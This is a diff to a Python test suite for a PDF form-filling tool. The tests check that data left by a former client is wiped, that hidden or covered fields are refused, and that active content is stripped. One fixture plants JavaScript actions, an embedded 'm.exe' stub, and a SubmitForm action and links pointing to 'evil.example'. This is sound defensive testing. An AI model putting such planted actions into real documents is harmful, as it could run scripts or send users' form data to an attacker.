@@ -3,12 +3,12 @@
 from __future__ import annotations
 
 import io
-from collections.abc import Mapping
+from collections.abc import Iterator, Mapping
 from pathlib import Path
 
 import pypdfium2
 import pytest
-from pikepdf import Dictionary, Name, Pdf, String
+from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
 
 from casebook.base.errors import DamagedSource
 from casebook.pdf.form.form_filling import fill_form
@@ -31,15 +31,15 @@ ANSWERS = {
 def filled(
     answers: Mapping[str, str] = ANSWERS, data: bytes | None = None, *, is_flat: bool = False
 ) -> bytes:
-    made, faults = fill_form(FORM, data or written_form(), answers, is_flat=is_flat)
-    assert faults == ()
+    made, outcome = fill_form(FORM, data or written_form(), answers, is_flat=is_flat)
+    assert outcome.faults == ()
     return made
 
 
 def faults_of(answers: Mapping[str, str], data: bytes | None = None) -> list[tuple[str, str]]:
-    made, faults = fill_form(FORM, data or written_form(), answers, is_flat=False)
+    made, outcome = fill_form(FORM, data or written_form(), answers, is_flat=False)
     assert made == b""
-    return [(fault.field, fault.kind) for fault in faults]
+    return [(fault.field, fault.kind) for fault in outcome.faults]
 
 
 def by_poppler(data: bytes, tmp_path: Path) -> str:
@@ -136,15 +136,147 @@ def test_a_form_that_may_be_filled_is_decrypted() -> None:
         assert str(field(pdf, "name").V) == ANSWERS["name"]
 
 
-def test_what_the_form_holds_is_shown_where_no_viewer_need_draw_it(tmp_path: Path) -> None:
-    def leave_to_viewer(pdf: Pdf) -> None:
-        pdf.Root.AcroForm.NeedAppearances = True
-        office = field(pdf, "office")
-        office.V = String("Registry 7")
-        del office.AP
+@pytest.mark.parametrize("is_flat", [False, True])
+def test_nothing_of_a_former_client_stays(*, is_flat: bool, tmp_path: Path) -> None:
+    def use_again(pdf: Pdf) -> None:
+        for name in ("office", "short", "reasons"):
+            field(pdf, name).V = field(pdf, name).DV = String("Wei Ming")
+        field(pdf, "legal-aid").V = field(pdf, "legal-aid").AS = Name.Yes
+        hidden = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("draft"), V=String("Wei Ming, case 12")))
+        pdf.Root.AcroForm.Fields.append(hidden)  # on no page
+        note = Dictionary(
+            Type=Name.Annot, Subtype=Name.FreeText, Rect=[50, 50, 99, 99], Contents=String("Wei Ming")
+        )
+        pdf.pages[0].obj.Annots.append(pdf.make_indirect(note))
+        pdf.Root.StructTreeRoot = Dictionary(
+            Type=Name.StructTreeRoot, K=Dictionary(Obj=pdf.pages[0].obj.Annots[-1])
+        )
+        pdf.pages[0].obj.Thumb = pdf.make_stream(b"Wei Ming")
+        pdf.Root.Metadata = pdf.make_stream(b"<x>Wei Ming</x>", Type=Name.Metadata, Subtype=Name.XML)
+        pdf.docinfo.Author = "Wei Ming"
 
-    data = filled({"born": "1984"}, altered(leave_to_viewer))
-    assert "Registry 7" in by_poppler(data, tmp_path)
+    former = filled({**ANSWERS, "name": "Wei Ming", "reasons": "Wei Ming"})
+    data, outcome = fill_form(FORM, altered(use_again, former), {"name": "Lin"}, is_flat=is_flat)
+    assert outcome.removed == ("notes", "properties")
+    assert "Wei" not in by_poppler(data, tmp_path) + by_pdfium(data)
+    assert "Cyprus" not in by_poppler(data, tmp_path)
+    assert not any("Wei Ming" in text for text in every_text(data))
+    with Pdf.open(io.BytesIO(data)) as pdf:
+        if not is_flat:
+            assert str(field(pdf, "legal-aid").AS) == "/Off"
+            assert str(field(pdf, "name").V) == "Lin"
+
+
+def every_text(data: bytes) -> Iterator[str]:
+    """Every string and name of a file, and every stream as it is unpacked."""
+    with Pdf.open(io.BytesIO(data)) as pdf:
+        waiting: list[object] = [*pdf.objects, pdf.trailer.get(Name.Info)]
+        while waiting:
+            one = waiting.pop()
+            if isinstance(one, Stream):
+                yield one.read_bytes().decode("latin-1")
+            parts: list[object] = []
+            if isinstance(one, Dictionary | Stream):
+                yield from one.keys()
+                parts = [one.get(key) for key in list(one.keys())]
+            elif isinstance(one, Array):
+                parts = list(one)
+            elif isinstance(one, String | Name):
+                yield str(one)
+            waiting += [part for part in parts if not getattr(part, "is_indirect", False)]
+
+
+@pytest.mark.parametrize("is_flat", [False, True])
+def test_nothing_that_acts_stays(*, is_flat: bool) -> None:
+    def script(words: str = "app.alert(1)") -> Dictionary:
+        return Dictionary(S=Name.JavaScript, JS=String(words))
+
+    def arm(pdf: Pdf) -> None:
+        attached = Dictionary(
+            Type=Name.Filespec, F=String("m.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ planted"))
+        )
+        pdf.Root.OpenAction = script()
+        pdf.Root.AA = Dictionary(WS=script())
+        pdf.Root.Names = Dictionary(
+            JavaScript=Dictionary(Names=Array([String("x"), script()])),
+            EmbeddedFiles=Dictionary(Names=Array([String("m.exe"), attached])),
+        )
+        pdf.Root.URI = Dictionary(Base=String("http://evil.example/"))
+        page = pdf.pages[0].obj
+        page.AA = Dictionary(O=script())
+        field(pdf, "name").AA = Dictionary(K=script("event.value"))
+        field(pdf, "name").A = Dictionary(
+            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))
+        )
+        link = Dictionary(S=Name.URI, URI=String("http://evil.example/link"))
+        for kind, entries in (("Link", {"/A": link}), ("FileAttachment", {"/FS": attached})):
+            note = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 595, 842], F=4)
+            for key, value in entries.items():
+                note[key] = value
+            page.Annots.append(pdf.make_indirect(note))
+        pdf.Root.StructTreeRoot = Dictionary(
+            Type=Name.StructTreeRoot, K=Array([page.Annots[-2], page.Annots[-1]])
+        )
+
+    data, outcome = fill_form(FORM, altered(arm), {"name": "Lin"}, is_flat=is_flat)
+    assert outcome.removed == ("actions", "attachments", "links", "properties", "scripts")
+    for text in every_text(data):
+        assert "evil" not in text
+        assert "planted" not in text
+        assert text not in {"/JavaScript", "/JS", "/OpenAction", "/AA", "/URI", "/SubmitForm", "/EF"}
+
+
+def test_a_field_that_nobody_sees_is_not_filled_in() -> None:
+    def hide(pdf: Pdf) -> None:
+        field(pdf, "name").F = 2
+        field(pdf, "short").Rect = [5000, 6000, 5200, 6020]
+        field(pdf, "legal-aid").F = 32
+        layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("off")))
+        pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))
+        field(pdf, "born").OC = layer
+
+    answers = {"name": "Lin", "short": "a", "legal-aid": "Yes", "born": "1984", "reasons": "seen"}
+    assert faults_of(answers, altered(hide)) == [
+        (name, "hidden") for name in ("name", "short", "legal-aid", "born")
+    ]
+    filled({"reasons": "seen"}, altered(hide))
+
+
+def test_white_on_white_and_what_is_covered_count_as_unseen() -> None:
+    def paint(pdf: Pdf) -> None:
+        one = field(pdf, "name")
+        one.DA, one.MK = String("/Helv 10 Tf 1 g"), Dictionary()
+        reasons = field(pdf, "reasons")
+        cover = pdf.make_indirect(
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Widget,
+                FT=Name.Tx,
+                T=String("cover"),
+                F=4,
+                Rect=reasons.Rect,
+                MK=Dictionary(BG=[1, 1, 1]),
+                P=pdf.pages[0].obj,
+            )
+        )
+        pdf.pages[0].obj.Annots.append(cover)
+        pdf.Root.AcroForm.Fields.append(cover)
+
+    data = altered(paint)
+    assert faults_of({"name": "Lin", "reasons": "covered", "short": "seen"}, data) == [
+        ("name", "unseen"),
+        ("reasons", "unseen"),
+    ]
+
+
+@pytest.mark.parametrize("turn", [0, 90, 180, 270])
+def test_values_are_seen_on_turned_and_cropped_pages(turn: int) -> None:
+    def change(pdf: Pdf) -> None:
+        for page in pdf.pages:
+            page.obj.Rotate = turn
+            page.obj.CropBox = [40, 400, 595, 842]
+
+    filled(data=altered(change))
 
 
 def test_a_box_without_appearances_gets_a_cross() -> None:
@@ -187,7 +319,7 @@ def test_fields_of_one_name_share_a_value(tmp_path: Path) -> None:
 
 def test_an_impossible_number_is_named_as_damage() -> None:
     def spoil(pdf: Pdf) -> None:
-        field(pdf, "name").F = 99_999_999_999
+        field(pdf, "name").F = 1 << 40
 
     with pytest.raises(DamagedSource, match="cannot be filled in"):
         fill_form(FORM, altered(spoil), {"name": "x"}, is_flat=True)
